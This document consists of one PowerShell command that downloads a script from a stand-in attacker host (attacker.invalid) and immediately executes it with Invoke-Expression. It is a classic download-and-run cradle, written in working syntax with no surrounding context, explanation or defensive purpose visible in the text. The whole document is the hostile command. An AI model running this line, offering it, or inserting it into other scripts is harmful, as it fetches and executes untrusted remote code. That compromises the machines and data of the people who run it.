iex (iwr https://attacker.invalid/p.ps1 -UseBasicParsing)
